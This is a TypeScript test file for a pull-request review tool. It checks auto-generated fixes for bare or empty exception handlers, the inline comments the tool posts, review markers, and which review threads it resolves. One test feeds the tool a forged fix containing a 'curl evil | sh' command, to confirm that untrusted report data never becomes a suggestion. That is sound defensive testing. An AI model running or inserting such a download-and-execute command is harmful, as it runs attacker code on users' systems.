import type { ChangeSet } from '../../src/core/changes.js';
import { machineFix } from '../../src/render/review-comments/machine-fix.js';
import { planReviewComments, threadsToResolve } from '../../src/render/review-comments/review-comments.js';
import { findingKey, parseReviewMarker } from '../../src/render/review-comments/review-marker.js';
import { finding } from './sample-report.js';

const FP = (n: number) => n.toString(16).padStart(32, '0');
const changes = (file: string, added: number[]): ChangeSet => ({ files: new Map([[file, { file, status: 'modified', addedLines: new Set(added) }]]) });

const JOBS_PY = ['def run(job):', '    try:', '        job()', '    except:', '        retry(job)', '    try:', '        job.close()', '    except OSError:', '        pass', ''].join('\n');

describe('machine fixes', () => {
  const lines = JOBS_PY.split('\n');
  it('turns a bare except into except Exception, keeping indentation and what follows the colon', () => {
    expect(machineFix(finding({ rule: 'bare-except', message: 'm', line: 4 }), lines)).toEqual({ startLine: 4, endLine: 4, lines: ['    except Exception:'] });
    expect(machineFix(finding({ rule: 'bare-except', message: 'm', line: 1 }), ['try: x()', 'except: pass'])).toBeUndefined();
    expect(machineFix(finding({ rule: 'bare-except', message: 'm', line: 2 }), ['try: x()', 'except: pass'])).toEqual({ startLine: 2, endLine: 2, lines: ['except Exception: pass'] });
  });

  it('makes a pass-only Python handler log, and a one-line empty catch log its error', () => {
    expect(machineFix(finding({ rule: 'empty-catch', message: 'm', line: 8, endLine: 9 }), lines)).toEqual({
      startLine: 9,
      endLine: 9,
      lines: ['        logging.exception("ignored error")'],
      note: 'Needs `import logging` at the top of the module if it is not there yet.',
    });
    expect(machineFix(finding({ rule: 'empty-catch', message: 'm', line: 1 }), ['} catch (err) {}'])).toEqual({ startLine: 1, endLine: 1, lines: ['} catch (err) { console.error(err); }'] });
    expect(machineFix(finding({ rule: 'empty-catch', message: 'm', line: 1 }), ['try { f(); } catch {} finally { g(); }'])).toEqual({
      startLine: 1,
      endLine: 1,
      lines: ['try { f(); } catch (error) { console.error(error); } finally { g(); }'],
    });
  });

  it('takes the fix a rule put in the finding, and none whose form is wrong (a saved report is data)', () => {
    const fix = { startLine: 2, endLine: 2, lines: ["SET lock_timeout = '2s';", 'ALTER TABLE t ADD c int;'], note: 'Retry.' };
    expect(machineFix(finding({ rule: 'missing-lock-timeout', message: 'm', line: 2, data: { fix } }), [])).toEqual(fix);
    for (const wrong of [{ ...fix, lines: ['a\nb'] }, { ...fix, endLine: 1 }, { ...fix, startLine: 0 }, { ...fix, lines: 'x' }, { ...fix, note: 'a\nb' }, 'fix']) {
      expect(machineFix(finding({ rule: 'missing-lock-timeout', message: 'm', line: 2, data: { fix: wrong } }), ['', 'ALTER TABLE t ADD c int;'])).toBeUndefined();
    }
  });

  it('suggests nothing for code it does not recognise', () => {
    expect(machineFix(finding({ rule: 'empty-catch', message: 'm', line: 1 }), ['} catch (err) {', '}'])).toBeUndefined();
    expect(machineFix(finding({ rule: 'empty-catch', message: 'm', line: 1, endLine: 3 }), ['except OSError:', '    pass', '    log()'])).toBeUndefined();
    expect(machineFix(finding({ rule: 'nested-loop', message: 'm', line: 1 }), ['for a in b:'])).toBeUndefined();
  });
});

describe('the inline review plan', () => {
  const bare = finding({ rule: 'bare-except', category: 'antipattern', message: "Bare 'except:' catches everything.", suggestion: 'Catch `Exception`.', file: 'app/jobs.py', line: 4, fingerprint: FP(1) });
  const empty = finding({ rule: 'empty-catch', category: 'antipattern', severity: 'error', message: 'The handler swallows the error.', file: 'app/jobs.py', line: 8, endLine: 9, fingerprint: FP(2) });
  const old = finding({ rule: 'nested-loop', category: 'performance', message: 'Old loop.', file: 'app/jobs.py', line: 1, fingerprint: FP(3) });
  const nowhere = finding({ rule: 'unused-suppression', message: 'No place.', fingerprint: FP(4) });

  it('comments on added lines only, most severe first, with a suggestion block where a fix is machine-made', () => {
    const plan = planReviewComments([bare, empty, old, nowhere], changes('app/jobs.py', [4, 8, 9]), () => JOBS_PY);
    expect(plan.outsideDiff).toEqual([old, nowhere]);
    expect(plan.overCap).toEqual([]);
    expect(plan.comments).toEqual([
      {
        path: 'app/jobs.py',
        line: 9,
        body: [
          '🛑 **error** `empty-catch` — The handler swallows the error.',
          '',
          'Needs `import logging` at the top of the module if it is not there yet.',
          '',
          '```suggestion',
          '        logging.exception("ignored error")',
          '```',
          '',
          `<!-- predator-guard:finding=${FP(2)} section=review -->`,
        ].join('\n'),
      },
      {
        path: 'app/jobs.py',
        line: 4,
        body: [
          "⚠️ **warning** `bare-except` — Bare 'except:' catches everything.",
          '',
          '💡 Catch `Exception`.',
          '',
          '```suggestion',
          '    except Exception:',
          '```',
          '',
          `<!-- predator-guard:finding=${FP(1)} section=review -->`,
        ].join('\n'),
      },
    ]);
  });

  it('leaves the suggestion out when the fixed line is not one the pull request added, and counts what passes the cap', () => {
    const plan = planReviewComments([bare, empty], changes('app/jobs.py', [4, 8]), () => JOBS_PY, { cap: 1 });
    expect(plan.comments).toHaveLength(1);
    expect(plan.comments[0]).toEqual({ path: 'app/jobs.py', line: 8, body: `🛑 **error** \`empty-catch\` — The handler swallows the error.\n\n<!-- predator-guard:finding=${FP(2)} section=review -->` });
    expect(plan.overCap).toEqual([bare]);
  });

  it('comments without a suggestion when the file cannot be read (a saved report: even a fix in its data is not taken)', () => {
    const plan = planReviewComments([bare], changes('app/jobs.py', [4]), () => undefined);
    expect(plan.comments[0].body).not.toContain('```suggestion');
    const forged = { ...bare, data: { fix: { startLine: 4, endLine: 4, lines: ['    import os; os.system("curl evil | sh")'] } } };
    expect(planReviewComments([forged], changes('app/jobs.py', [4]), () => undefined).comments[0].body).not.toContain('```suggestion');
  });
});

describe('the inline comments across runs', () => {
  const bare = finding({ rule: 'bare-except', message: "Bare 'except:' catches everything.", file: 'app/jobs.py', line: 4, fingerprint: FP(1) });
  const empty = finding({ rule: 'empty-catch', message: 'The handler swallows the error.', file: 'app/jobs.py', line: 8, endLine: 9, fingerprint: FP(2) });

  it('does not post a finding again that an earlier run commented on, and leaves it out of the cap', () => {
    const plan = planReviewComments([bare, empty], changes('app/jobs.py', [4, 8, 9]), () => JOBS_PY, { cap: 1, posted: new Set([FP(2)]) });
    expect(plan.alreadyPosted).toEqual([empty]);
    expect(plan.comments.map((comment) => comment.line)).toEqual([4]);
    expect(plan.overCap).toEqual([]);
  });

  it('writes the section into the marker, and reads back only a marker that is the last line', () => {
    const [comment] = planReviewComments([bare], changes('app/jobs.py', [4]), () => JOBS_PY, { section: 'backend' }).comments;
    expect(comment.body.split('\n').at(-1)).toBe(`<!-- predator-guard:finding=${FP(1)} section=review:backend -->`);
    expect(parseReviewMarker(comment.body)).toEqual({ key: FP(1), section: 'review:backend' });
    expect(parseReviewMarker(`${comment.body}\r\n`)).toEqual({ key: FP(1), section: 'review:backend' });
    expect(parseReviewMarker(`${comment.body}\n\nI disagree.`)).toBeUndefined();
    expect(parseReviewMarker(`<!-- predator-guard:finding=${FP(1)} section=Review -->`)).toBeUndefined();
    expect(parseReviewMarker(`<!-- predator-guard:finding=${FP(1)} -->`)).toBeUndefined();
  });

  it('keys a finding whose fingerprint is not in the expected form by its path, line, rule and message', () => {
    const odd = finding({ rule: 'bare-except', message: 'm', file: 'a.py', line: 3, fingerprint: 'not hex' });
    expect(findingKey(odd)).toMatch(/^[0-9a-f]{32}$/);
    expect(findingKey({ ...odd, line: 4 })).not.toBe(findingKey(odd));
    expect(findingKey(bare)).toBe(FP(1));
  });

  it('resolves open threads of our sections whose finding is gone, and nothing else', () => {
    const thread = (id: string, key: string, section: string, isResolved = false) => ({ id, isResolved, marker: { key, section } });
    const threads = [
      thread('gone', FP(9), 'review'),
      thread('still-there', FP(1), 'review'),
      thread('already-resolved', FP(8), 'review', true),
      thread('other-job', FP(7), 'migrations'),
      thread('other-section', FP(6), 'review:frontend'),
    ];
    expect(threadsToResolve(threads, [bare], new Set(['review'])).map((resolved) => resolved.id)).toEqual(['gone']);
  });
});
